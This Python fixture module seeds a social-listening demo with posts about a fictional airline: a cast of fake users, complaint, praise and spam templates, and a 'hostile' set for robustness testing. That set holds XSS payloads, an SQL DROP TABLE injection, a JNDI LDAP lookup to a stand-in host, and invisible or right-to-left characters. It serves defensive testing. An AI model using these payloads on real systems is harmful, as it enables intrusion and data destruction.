# ruff: noqa: E501  (the template bank is prose; wrapping it would hurt reading it)
"""The demo's story: who posts on the sandbox network and what they write.

The demo listens for the fictional airline Northwind Air (and its competitor Skyline Airways). The
sandbox may not import config/, so the brand terms are copied here from config/demo.toml; the tests
check both copies agree with the real matcher.

Templates use {placeholders} that the seeder fills per network (see `render`). Unknown braces are
left alone, so hostile text such as "${jndi:...}" or "{0}" survives untouched.
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass

# --- the brands (a copy of config/demo.toml) --------------------------------------------------

BRAND_NAME = "Northwind Air"
BRAND_TERMS = (
    "Northwind Air",
    "Northwind Airlines",
    "@northwindair",
    "#northwindair",
    "#flynorthwind",
    "northwind flight",
)
BRAND_EXCLUDE = ("Northwind Traders",)
COMPETITOR_NAME = "Skyline Airways"
COMPETITOR_TERMS = ("Skyline Airways", "@skylineair", "#skylineairways")


def _term_pattern(term: str) -> re.Pattern[str]:
    # The whole-word rule of listener/sources/matching.py: handles and hashtags keep their sigil.
    return re.compile(rf"(?<![\w@#]){re.escape(term)}(?!\w)", re.IGNORECASE)


_BRAND_PATTERNS = [_term_pattern(t) for t in BRAND_TERMS]
_EXCLUDE_PATTERNS = [_term_pattern(t) for t in BRAND_EXCLUDE]
_COMPETITOR_PATTERNS = [_term_pattern(t) for t in COMPETITOR_TERMS]


def matches_brand(text: str) -> bool:
    """Whether the listener should pick this text up for Northwind Air."""
    if any(p.search(text) for p in _EXCLUDE_PATTERNS):
        return False
    return any(p.search(text) for p in _BRAND_PATTERNS)


def matches_competitor(text: str) -> bool:
    return any(p.search(text) for p in _COMPETITOR_PATTERNS)


# --- networks -------------------------------------------------------------------------------

# Longest post body each network accepts. X counts weighted characters, Bluesky graphemes; the
# seeder counts conservatively (see seeder.text_length) so it never goes over.
TEXT_LIMITS = {"x": 280, "reddit": 40_000, "mastodon": 500, "bluesky": 300}
REDDIT_TITLE_LIMIT = 300


# --- the cast -------------------------------------------------------------------------------


@dataclass(frozen=True)
class CastMember:
    handle: str  # X and Mastodon username
    display_name: str
    followers: int
    kind: str = "customer"  # "customer" | "influencer" | "spammer" | "brand"
    reddit: str | None = None  # Reddit usernames follow their own conventions
    langs: tuple[str, ...] = ("en",)
    is_brand: bool = False

    def handle_on(self, network: str) -> str:
        if network == "reddit":
            return self.reddit or self.handle
        if network == "bluesky":
            # Bluesky handles are domain names: no underscores, lower case.
            return f"{self.handle.replace('_', '-').lower()}.bsky.social"
        return self.handle


BRAND_ACCOUNT = CastMember(
    "northwindair", "Northwind Air", 184_000, kind="brand", reddit="northwindair", is_brand=True
)
BRAND_HANDLES = {
    "x": "northwindair",
    "reddit": "northwindair",
    "mastodon": "northwindair",
    "bluesky": "northwindair.bsky.social",
}


def brand_handle(network: str) -> str:
    return BRAND_HANDLES[network]


def brand_mention(network: str) -> str:
    """How a post addresses the brand account so it lands in the account's mentions."""
    if network == "reddit":
        return f"u/{BRAND_HANDLES['reddit']}"
    return f"@{BRAND_HANDLES[network]}"


CUSTOMERS = (
    CastMember("jenna_flies", "Jenna Morales", 842, reddit="jennaflies_"),
    CastMember("mike_t_84", "Mike Thompson", 213, reddit="miket84"),
    CastMember("priyanka_dev", "Priyanka R.", 3_410, reddit="priyanka-dev"),
    CastMember("dan_the_dad", "Dan Okafor", 97, reddit="DanTheDad_"),
    CastMember("sarahk_travels", "Sarah K. ✈️", 12_800, reddit="sarahk_travels"),
    CastMember("tomasz_w", "Tomasz Wiśniewski", 456, reddit="tomaszw"),
    CastMember("luciaviaja", "Lucía Fernández", 2_250, reddit="lucia_viaja", langs=("es", "en")),
    CastMember("marc_dubois", "Marc Dubois", 618, reddit="mdubois", langs=("fr", "en")),
    CastMember("anna_schmidt", "Anna Schmidt", 1_104, reddit="annaschmidt_", langs=("de", "en")),
    CastMember("joao_pedro", "João Pedro Silva", 389, reddit="jpsilva", langs=("pt", "en")),
    CastMember("kev_bos", "Kevin B", 41, reddit="throwaway_kev_2291"),
    CastMember("rachelgreenish", "Rachel G", 5_730, reddit="rachelgreenish"),
    CastMember("biz_traveler_nyc", "Alex Chen", 1_890, reddit="BizTravelerNYC"),
    CastMember("gate_lice_guy", "Gate Lice Guy", 7_320, reddit="gate_lice_guy"),
    CastMember("momof3_onthego", "Tasha Williams", 624, reddit="momof3onthego"),
    CastMember("hannah_b", "Hannah Brooks", 158, reddit="hannahb_"),
    CastMember("ravi_kumar", "Ravi Kumar", 2_045, reddit="ravik"),
    CastMember("oldmanyelling", "Frank", 33, reddit="OldManYellingAtClouds"),
    CastMember("grace_lee_", "Grace Lee", 988, reddit="gracelee"),
    CastMember("chris_p_bacon", "Chris P.", 271, reddit="chrispbacon"),
    CastMember("nomad_nadia", "Nadia 🌍", 18_400, reddit="nomad_nadia"),
    CastMember("pdx_pete", "Pete from PDX", 530, reddit="pdxpete"),
    CastMember("emily_writes", "Emily Carter", 4_120, reddit="emilywrites"),
    CastMember("samir_h", "Samir Haddad", 702, reddit="samirh", langs=("ar", "en")),
    CastMember("noa_levi", "Noa Levi", 1_330, reddit="noalevi", langs=("he", "en")),
    CastMember("carlos_mx", "Carlos Ramírez", 860, reddit="carlosmx", langs=("es", "en")),
    CastMember("claire_tls", "Claire Martin", 445, reddit="claire_tls", langs=("fr", "en")),
    CastMember("felix_muc", "Felix Bauer", 312, reddit="felixmuc", langs=("de", "en")),
    CastMember("bia_rio", "Beatriz Costa", 1_760, reddit="bia_rio", langs=("pt", "en")),
    CastMember("quietjoe", "joe", 12, reddit="quietjoe"),
    CastMember("linda_m_1962", "Linda M", 88, reddit="lindam1962"),
    CastMember("devops_dana", "Dana (she/her)", 2_980, reddit="devops_dana"),
    CastMember("sql_steve", "Steve Park", 1_420, reddit="sqlsteve"),
    CastMember("windsurf_wes", "Wes", 267, reddit="windsurfwes"),
)

INFLUENCERS = (
    CastMember(
        "thepointsguy_ish", "Points Guy-ish", 412_000, kind="influencer", reddit="pointsish"
    ),
    CastMember(
        "wanderwithmaya", "Maya | Wander", 238_500, kind="influencer", reddit="wanderwithmaya"
    ),
    CastMember("avgeek_daily", "AvGeek Daily", 156_900, kind="influencer", reddit="avgeek_daily"),
    CastMember("budgettravelbex", "Bex 💸✈️", 121_300, kind="influencer", reddit="budgettravelbex"),
)

SPAMMERS = (
    CastMember(
        "crypto_airdrop_x9", "FREE BTC 🚀🚀", 14, kind="spammer", reddit="airdrop_x9_official"
    ),
    CastMember("elon_givesaway_21", "Elon Giveaway", 3, kind="spammer", reddit="elon_giveaway_21"),
    CastMember(
        "cheap_flights_4u_", "Cheap Flights 4U", 57, kind="spammer", reddit="cheapflights4u_deals"
    ),
)

CAST = (BRAND_ACCOUNT, *CUSTOMERS, *INFLUENCERS, *SPAMMERS)

# Who writes which kind of post.
NOISE_AUTHORS = (
    "sql_steve",
    "devops_dana",
    "windsurf_wes",
    "priyanka_dev",
    "quietjoe",
    "ravi_kumar",
)


# --- the templates --------------------------------------------------------------------------


@dataclass(frozen=True)
class Template:
    kind: str  # see seeder.KINDS
    text: str
    topic: str | None = None
    lang: str = "en"
    title: str | None = None  # Reddit submissions; a topic title is used when None
    subreddits: tuple[str, ...] = ()
    opens_thread: bool = False  # the author comes back later in the same thread


COMPLAINT_TOPICS = ("lost_luggage", "delay", "refund", "staff", "wifi", "seats", "app")

_C = "complaint"
COMPLAINTS = (
    # lost luggage
    Template(
        _C,
        "{who} lost my bag AGAIN. flight {flight} from {city}. nobody at the desk knows anything 😡",
        "lost_luggage",
        opens_thread=True,
    ),
    Template(
        _C,
        "day {days} without my suitcase. thanks {who} 🙃 #lostluggage",
        "lost_luggage",
        opens_thread=True,
    ),
    Template(
        _C,
        "{who} my luggage went to {city2} and I went to {city}. how does that even happen",
        "lost_luggage",
    ),
    Template(
        _C,
        "Landed in {city} 2hrs ago, bag never came out on the belt. The {brand} baggage office is closed. CLOSED. At 9pm on a friday",
        "lost_luggage",
        opens_thread=True,
    ),
    Template(
        _C,
        "So {brand} lost my checked bag on {flight} ({city} -> {city2}). Filed the claim at the airport, got a reference number, and the tracker has said 'searching' for {days} days. I've called four times and every time I get a different answer. One agent said it was in {city2}, the next said it was never scanned. I have a wedding on saturday and my suit is in there. Has anyone actually gotten a bag back from them? What do I do next, and should I be buying replacement stuff and claiming it?",
        "lost_luggage",
        title="{brand} lost my bag {days} days ago, tracker still says 'searching'",
        subreddits=("travel", "flights"),
        opens_thread=True,
    ),
    Template(
        _C,
        "wheelchair damaged in the hold and {who} is offering a $50 voucher. a $50 VOUCHER. this is my mobility",
        "lost_luggage",
        opens_thread=True,
    ),
    # delays and cancellations
    Template(
        _C,
        "{hours} hour delay and counting on {flight}. no updates, no food vouchers, nothing. {who} wtf",
        "delay",
        opens_thread=True,
    ),
    Template(
        _C,
        "cancelled. CANCELLED. at the gate. {who} you could have told us this morning",
        "delay",
        opens_thread=True,
    ),
    Template(
        _C,
        "my northwind flight got cancelled for the 2nd time this month and rebooked me 2 days later lol ok",
        "delay",
    ),
    Template(
        _C,
        "Missed my connection in {city} because {brand} sat on the tarmac for 90 min. Rebooked on a flight tomorrow at 6am. No hotel offered.",
        "delay",
        opens_thread=True,
    ),
    Template(_C, "Delayed again #northwindair 😴😴😴", "delay"),
    Template(
        _C,
        "{brand} cancelled our {city} to {city2} flight 3 hours before departure ('operational reasons'), rebooked us on a flight 2 days later, and when I asked about compensation the agent said weather, but every other airline was flying the same route. Family of four, two kids, one hotel room they refused to pay for. Is this worth escalating? We're in the EU so I think EU261 applies?",
        "delay",
        title="Cancelled 3h before departure, {brand} says 'weather' but everyone else flew",
        subreddits=("travel", "flights", "legaladvice"),
        opens_thread=True,
    ),
    Template(
        _C,
        "sitting on the plane for 2 hrs with no AC. kids screaming. {who} at least give us water??",
        "delay",
    ),
    # refunds and billing
    Template(
        _C,
        "{who} still waiting on my refund for a flight YOU cancelled. {weeks} weeks. ref {conf}",
        "refund",
        opens_thread=True,
    ),
    Template(
        _C,
        "got charged twice for the same booking ({amount} x2) and {brand} support just keeps closing my ticket",
        "refund",
        opens_thread=True,
    ),
    Template(
        _C,
        "Booked with {brand}, they cancelled, promised a refund 'within 7 business days'. That was {weeks} weeks ago. I've got the confirmation email, the case number, everything. Bank says I can do a chargeback but I'm worried it'll mess with my account. Anyone done a chargeback against an airline, and did it work?",
        "refund",
        title="Airline refund {weeks} weeks late - chargeback or wait?",
        subreddits=("personalfinance", "travel"),
        opens_thread=True,
    ),
    Template(
        _C,
        "they charged me a {amount} seat fee for a seat I never got. {who} pls explain",
        "refund",
    ),
    Template(
        _C, "Voucher instead of a refund?? No thank you {brand}. I want my money back.", "refund"
    ),
    # rude staff
    Template(
        _C,
        "the gate agent at {city} for {flight} was unbelievably rude to an elderly lady in front of me. {who} do better",
        "staff",
        opens_thread=True,
    ),
    Template(
        _C, "flight attendant rolled her eyes at me for asking for water. ok {brand} 🙄", "staff"
    ),
    Template(
        _C,
        "{who} your phone agent literally hung up on me after 2 hours on hold",
        "staff",
        opens_thread=True,
    ),
    Template(
        _C,
        "Never been spoken to like that by airline staff. Northwind Airlines ground crew in {city} need retraining. Full stop.",
        "staff",
    ),
    # wifi
    Template(
        _C,
        "paid {amount} for inflight wifi on {brand} and it hasn't loaded a single page. {who}",
        "wifi",
        opens_thread=True,
    ),
    Template(_C, "northwind flight wifi speed: 0.2 mbps. I've seen faster dial-up lol", "wifi"),
    Template(_C, "WIFI DOESNT WORK #flynorthwind 🙄", "wifi"),
    # seats
    Template(
        _C,
        "paid for extra legroom, got moved to 34E next to the toilet. {who} refund the difference pls",
        "seats",
        opens_thread=True,
    ),
    Template(
        _C, "the seats on {brand}'s new planes are basically ironing boards. my back 😩", "seats"
    ),
    Template(
        _C,
        "They split up my family (kids 4 and 6!) across the plane and told us to 'ask other passengers to swap'. {who} this is not ok",
        "seats",
        opens_thread=True,
    ),
    # app and booking
    Template(
        _C,
        "{who} your app logs me out every time I try to check in. tried 5 times. iOS 18",
        "app",
        opens_thread=True,
    ),
    Template(
        _C,
        "website charged my card but never issued a ticket. booking ref {conf} doesnt exist apparently?? @northwindair",
        "app",
        opens_thread=True,
    ),
    Template(_C, "the {brand} app just shows a spinning plane forever lmao", "app"),
    Template(
        _C,
        "Tried to change my flight online, got 'Error 500' three times, called, got charged a {amount} phone booking fee for something your website should do. {who}",
        "app",
    ),
)

PRAISE = (
    Template(
        "praise",
        "shoutout to the crew on {flight} {who}, they handled a medical emergency so calmly 👏",
        "crew",
    ),
    Template(
        "praise",
        "ok I'll admit it, {brand} upgraded me for free and the seat was amazing ✨",
        "seats",
    ),
    Template(
        "praise", "on time, friendly crew, decent snacks. {brand} you did good today", "general"
    ),
    Template(
        "praise",
        "Lost my phone on board and {who} had it back to me within 3 hours. Legends 🙌",
        "lost_luggage",
    ),
    Template(
        "praise",
        "Genuinely impressed with how {brand} handled the cancellation - rebooked automatically, hotel voucher in the app, no queue. More of this please.",
        "delay",
    ),
    Template("praise", "the new lounge in {city} is 🔥 #flynorthwind", "general"),
    Template("praise", "10/10 would fly northwind air again", "general"),
    Template(
        "praise",
        "Huge thanks to Marcus at the {city} desk. Sorted our whole mess in 10 min. {who} give that man a raise",
        "staff",
    ),
    Template(
        "praise",
        "Flew {brand} {city} to {city2} last week in their new business cabin. Honestly better than I expected for the price: lie-flat seat, proper pillow, food was good, wifi actually worked. Redeemed miles for it and the award availability was fine booking 2 months out.",
        "general",
        title="Trip report: {brand} new business cabin, {city} to {city2}",
        subreddits=("awardtravel", "flights"),
    ),
)

QUESTIONS = (
    Template("question", "does {brand} let you bring a pet in the cabin? small dog, 6kg", "policy"),
    Template("question", "{who} what's the carry-on size limit on your regional jets?", "policy"),
    Template("question", "anyone know if northwind air lounges accept priority pass?", "policy"),
    Template(
        "question",
        "Is it worth paying for {brand} premium economy on a 9 hour flight or nah",
        "seats",
    ),
    Template(
        "question",
        "{who} can I change the name on my ticket? my passport has my middle name",
        "app",
    ),
    Template(
        "question",
        "Flying {brand} for the first time next month ({city} to {city2}). Anything I should know? Do they weigh carry-ons at the gate? Is the food worth pre-ordering?",
        "general",
        title="First time flying {brand} - tips?",
        subreddits=("travel", "flights"),
    ),
    Template(
        "question",
        "how many miles do you need for a {brand} award to {city2}? the calculator on the site seems broken",
        "miles",
        title="{brand} award chart to {city2}?",
        subreddits=("awardtravel",),
    ),
    Template("question", "is the #northwindair status match still a thing?", "miles"),
)

CHATTER = (
    Template("chatter", "boarding my northwind flight to {city2} ✈️ see ya", None),
    Template("chatter", "window seat secured. {brand} {flight} let's gooo", None),
    Template("chatter", "the {brand} safety video is weirdly catchy ngl", None),
    Template("chatter", "#flynorthwind sunset over {city2} 🌅", None),
    Template(
        "chatter",
        "watching a {brand} A321 land in crosswind rn, pilots earning their pay today",
        None,
    ),
    Template(
        "chatter",
        "reading about the {brand} and pilots union negotiations, hope it doesn't end in a strike",
        None,
    ),
    Template("chatter", "just realised my {brand} flight number is my birthday lol", None),
    Template(
        "chatter", "RT if you've ever run through {city} airport for a northwind flight 🏃", None
    ),
    Template(
        "chatter",
        "{brand} Q3 earnings call today. Load factor up, fuel costs down. #avgeek",
        None,
        title="{brand} Q3 results discussion",
        subreddits=("aviation", "flights"),
    ),
    Template(
        "chatter",
        "Spotted the new {brand} livery at {city} today, thoughts? I kind of like the dark blue tail.",
        None,
        title="New {brand} livery spotted at {city}",
        subreddits=("aviation",),
    ),
)

COMPETITOR = (
    Template("competitor", "{rival} lost my bag too, is every airline like this", "lost_luggage"),
    Template(
        "competitor",
        "flew @skylineair yesterday, legroom was great honestly #skylineairways",
        "seats",
    ),
    Template(
        "competitor",
        "switching to {rival} after this week. sorry {who}, you had your chance",
        "general",
    ),
    Template(
        "competitor",
        "{brand} vs Skyline Airways for {city} to {city2}? which one is less painful",
        "general",
        title="{brand} or Skyline Airways for {city}-{city2}?",
        subreddits=("travel", "flights"),
    ),
    Template(
        "competitor",
        "Skyline Airways just announced a {city2} route. Prices are already cheaper than northwind air lol",
        "general",
    ),
    Template("competitor", "#skylineairways delayed 3 hours, love that for me", "delay"),
)

SPAM = (
    Template(
        "spam",
        "🚀🚀 {who} {rival} FREE 2 BTC GIVEAWAY 🚀🚀 first 500 wallets only!! claim 👉 bit.ly/fr33-btc-drop",
        None,
    ),
    Template(
        "spam",
        "{who} get 90% off ANY flight with our promo codes!!! DM now ✈️💰 #flynorthwind #travel #deals #cheapflights",
        None,
    ),
    Template(
        "spam",
        "Congrats! You've been selected for a free {brand} voucher worth $1000. Verify your account here: northwind-air-rewards.claim-now.xyz",
        None,
    ),
    Template(
        "spam", "💎 {who} I made $8,400 this week with this ONE trick. link in bio 💎💎", None
    ),
)

# Texts that look close but must not match: the Northwind Traders sample database, a bare
# "northwind", words that merely start with a brand term.
NOISE = (
    Template(
        "noise",
        "Anyone else still teaching SQL with the Northwind Traders sample database? the Orders table is a classic",
        None,
        title="Is Northwind Traders still the best sample DB for teaching SQL?",
        subreddits=("SQL", "learnprogramming"),
    ),
    Template(
        "noise",
        "SELECT * FROM Orders JOIN Customers ... why is Northwind Traders always the example db lol",
        None,
    ),
    Template(
        "noise",
        "spent all day migrating the northwind sample db to postgres. foreign keys everywhere",
        None,
    ),
    Template(
        "noise",
        "strong northwind today 🪁 perfect kite weather",
        None,
        subreddits=("kiteboarding",),
    ),
    Template("noise", "Northwind Brewing's new hazy IPA is unreal", None),
    Template("noise", "taking the northwind airport shuttle, running late as usual", None),
    Template("noise", "Northwind Traders Access template still haunts my dreams 😅", None),
    Template(
        "noise",
        "flight 208 to {city2} delayed, gate changed twice, classic",
        None,
        subreddits=("travel",),
    ),
    Template(
        "noise",
        "best carry-on backpack for a 2 week trip? not checking a bag this time",
        None,
        title="Best carry-on backpack for 2 weeks?",
        subreddits=("onebag", "travel"),
    ),
    Template("noise", "the skyline from the plane window tonight 😍", None),
    Template("noise", "north wind + airline food = my whole personality on this trip", None),
)

FOREIGN = (
    Template(
        "foreign",
        "Perdieron mi maleta en el vuelo {flight} de {brand} 😡 nadie responde",
        "lost_luggage",
        lang="es",
    ),
    Template(
        "foreign", "Gracias {who} por el upgrade, ¡servicio increíble! ✈️", "general", lang="es"
    ),
    Template(
        "foreign",
        "¿Alguien sabe si {brand} permite llevar mascotas en cabina?",
        "policy",
        lang="es",
    ),
    Template(
        "foreign", "Vol {flight} annulé sans explication, merci {brand} 🙄", "delay", lang="fr"
    ),
    Template("foreign", "Super vol avec {who}, équipage adorable ✈️", "general", lang="fr"),
    Template(
        "foreign",
        "Remboursement toujours pas reçu après 6 semaines. {who} ça devient ridicule",
        "refund",
        lang="fr",
    ),
    Template(
        "foreign",
        "Schon wieder 3 Stunden Verspätung mit {brand}. Danke für nichts.",
        "delay",
        lang="de",
    ),
    Template(
        "foreign",
        "Koffer weg, Hotline nicht erreichbar. {who} bitte melden!",
        "lost_luggage",
        lang="de",
    ),
    Template(
        "foreign",
        "Sehr angenehmer Flug mit {brand}, pünktlich und freundlich 👍",
        "general",
        lang="de",
    ),
    Template(
        "foreign",
        "Minha mala sumiu no voo da {brand} 😭 alguém já passou por isso?",
        "lost_luggage",
        lang="pt",
    ),
    Template("foreign", "Atendimento excelente da {who} hoje, obrigado!", "general", lang="pt"),
    Template(
        "foreign", "{brand} cancelou meu voo e ainda não devolveu o dinheiro", "refund", lang="pt"
    ),
)

# Written by strangers, rendered by us: markup, injections, invisible and right-to-left text.
HOSTILE = (
    Template(
        "hostile", "<script>alert('pwned')</script> {who} your checkout page is broken", "app"
    ),
    Template(
        "hostile",
        '<img src=x onerror="alert(document.cookie)"> {brand} refund when??',
        "refund",
        title="<b>{brand}</b> refund <i>when</i>?",
    ),
    Template("hostile", "'; DROP TABLE mentions; -- {who} lol your app crashed again", "app"),
    Template(
        "hostile",
        "{brand}\u200b lost\u200b my\u200b bag\ufeff again\u200d {flight}",
        "lost_luggage",
    ),
    Template(
        "hostile", "North\u200bwind Air is the worst (you can't search for this one)", "general"
    ),
    Template(
        "hostile",
        "\u202eriA dniwhtroN\u202c {who} \u202bخدمة سيئة جدا، الرحلة {flight} تأخرت\u202c",
        "delay",
        lang="ar",
    ),
    Template("hostile", "הטיסה של {brand} בוטלה שוב 😡 {who}", "delay", lang="he"),
    Template(
        "hostile",
        "[click for refund](javascript:alert(1)) {who} {0} %s %n ${jndi:ldap://x.example/a}",
        "refund",
    ),
    Template(
        "hostile", "N̷o̷r̷t̷h̷w̷i̷n̷d̷ ̷A̷i̷r̷ is cursed #northwindair\n\n\n\n\ttabs\tand\r\nnewlines", "general"
    ),
    Template("hostile", "{near_limit}", "delay"),
)

TEMPLATES: dict[str, tuple[Template, ...]] = {
    "complaint": COMPLAINTS,
    "praise": PRAISE,
    "question": QUESTIONS,
    "chatter": CHATTER,
    "competitor": COMPETITOR,
    "spam": SPAM,
    "noise": NOISE,
    "foreign": FOREIGN,
    "hostile": HOSTILE,
}

# The same author, later, in the same thread.
FOLLOWUPS: dict[str, tuple[str, ...]] = {
    "lost_luggage": (
        "still no bag. day {days}. {who}??",
        "update: bag showed up at my door this morning 🙏 thanks {who}",
        "they found it! it was in {city2} the whole time lol. thanks for sorting it",
        "Edit: still waiting. Tracker hasn't changed. Calling again tomorrow.",
    ),
    "delay": (
        "still sitting here. now {hours}h. {who}",
        "finally boarded. only {hours} hours late 🙃",
        "update: {who} DM'd me and sorted a hotel + meal vouchers. thank you",
        "Update: they approved the compensation claim. Took 2 emails. Thanks all.",
    ),
    "refund": (
        "still waiting… {who}",
        "refund finally landed. thanks, sorted 👍",
        "day {days} of waiting for this refund. ref {conf}",
        "Update for anyone who finds this: chargeback went through in 10 days.",
    ),
    "staff": (
        "to be fair someone from {who} reached out and apologised. appreciated",
        "no response yet. cool.",
    ),
    "wifi": ("they refunded the wifi. thanks, sorted", "still no wifi, landing soon lol"),
    "seats": (
        "a lovely couple swapped with us. no thanks to {who}",
        "got a partial refund for the seat. thanks, sorted",
    ),
    "app": (
        "still broken. {who} any ETA?",
        "works now after the update, thanks {who}",
        "had to check in at the airport in the end. still waiting for a fix",
    ),
}

# Reddit needs a title for each submission; these serve templates that bring none.
TITLES: dict[str, tuple[str, ...]] = {
    "complaint": (
        "{brand} - worst experience I've had with an airline",
        "Is it just me or has {brand} gotten worse?",
        "Rant: {brand}",
        "PSA about {brand}",
    ),
    "praise": ("Credit where it's due: {brand}", "Good experience with {brand} for once"),
    "question": ("Question about {brand}", "{brand} question"),
    "chatter": ("{brand} discussion", "Random {brand} thought"),
    "competitor": ("{brand} vs Skyline Airways", "Skyline Airways or {brand}?"),
    "spam": ("FREE FLIGHTS!!! 💰💰", "🚀 Giveaway 🚀"),
    "noise": ("Random question", "Anyone else?"),
    "foreign": ("{brand}?", "{brand} :("),
    "hostile": ("<script>alert(1)</script>", "Title with \u200b zero width", "⚠️ {brand} ⚠️"),
}

SUBREDDITS: dict[str, tuple[str, ...]] = {
    "complaint": ("travel", "flights", "airlines", "personalfinance"),
    "praise": ("travel", "flights", "awardtravel"),
    "question": ("travel", "flights", "awardtravel", "TravelHacks"),
    "chatter": ("aviation", "flights", "travel"),
    "competitor": ("travel", "flights", "awardtravel"),
    "spam": ("travel", "deals", "CryptoCurrency"),
    "noise": ("SQL", "learnprogramming", "travel", "onebag", "kiteboarding"),
    "foreign": ("travel", "es", "france", "de", "brasil"),
    "hostile": ("travel", "flights"),
}

CITIES = (
    "Denver", "Chicago", "Boston", "Seattle", "Austin", "Toronto", "London", "Dublin", "Lisbon",
    "Madrid", "Paris", "Frankfurt", "Reykjavik", "Atlanta", "Phoenix", "Vancouver",
)  # fmt: skip

BRAND_NAME_FORMS = (
    "Northwind Air", "Northwind Air", "Northwind Air", "Northwind Airlines", "northwind air",
    "NORTHWIND AIR", "Northwind Airlines", "#NorthwindAir", "#flynorthwind",
)  # fmt: skip
RIVAL_FORMS = ("Skyline Airways", "Skyline Airways", "@skylineair", "#skylineairways")

_PLACEHOLDER = re.compile(r"\{(\w+)\}")


def render(text: str, network: str, rng: random.Random, *, mention_share: float = 0.5) -> str:
    """Fill a template's {placeholders} for one network.

    {who} addresses the brand: its account (so the post lands in the mentions timeline/inbox) for
    `mention_share` of posts, otherwise one of the brand's names or hashtags.
    """
    values: dict[str, str] = {}

    def value(name: str) -> str | None:
        if name in values:
            return values[name]
        if name == "who":
            v = (
                brand_mention(network)
                if rng.random() < mention_share
                else rng.choice(BRAND_NAME_FORMS)
            )
        elif name == "brand":
            v = rng.choice(BRAND_NAME_FORMS[:7])  # names, not hashtags: they sit mid-sentence
        elif name == "at":
            v = brand_mention(network)
        elif name == "rival":
            v = rng.choice(RIVAL_FORMS)
        elif name == "flight":
            v = f"NW{rng.randint(100, 2999)}"
        elif name == "city":
            v = rng.choice(CITIES)
        elif name == "city2":
            v = rng.choice([c for c in CITIES if c != values.get("city")])
        elif name == "hours":
            v = str(rng.randint(2, 9))
        elif name == "days":
            v = str(rng.randint(2, 12))
        elif name == "weeks":
            v = str(rng.randint(3, 11))
        elif name == "amount":
            v = f"${rng.choice((19, 29, 49, 89, 129, 349, 612))}"
        elif name == "conf":
            v = "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(6))
        else:
            return None
        values[name] = v
        return v

    def substitute(m: re.Match[str]) -> str:
        v = value(m.group(1))
        return m.group(0) if v is None else v

    return _PLACEHOLDER.sub(substitute, text)


NEAR_LIMIT_SENTENCES = (
    "I have been on hold for {hours} hours.",
    "The flight was delayed again.",
    "Nobody at the desk could tell us anything.",
    "They promised a hotel and then said no.",
    "My kids slept on the floor at the gate.",
    "This is the third time this year.",
)


def near_limit_text(network: str, rng: random.Random, limit: int) -> str:
    """A rambling complaint that stops a few characters short of the network's limit."""
    text = f"{brand_mention(network)} long story, bear with me."
    target = limit - 4
    while True:
        sentence = " " + render(rng.choice(NEAR_LIMIT_SENTENCES), network, rng)
        if len(text) + len(sentence) > target:
            break
        text += sentence
    room = target - len(text) - 1
    return text + " " + "!" * room if room > 0 else text
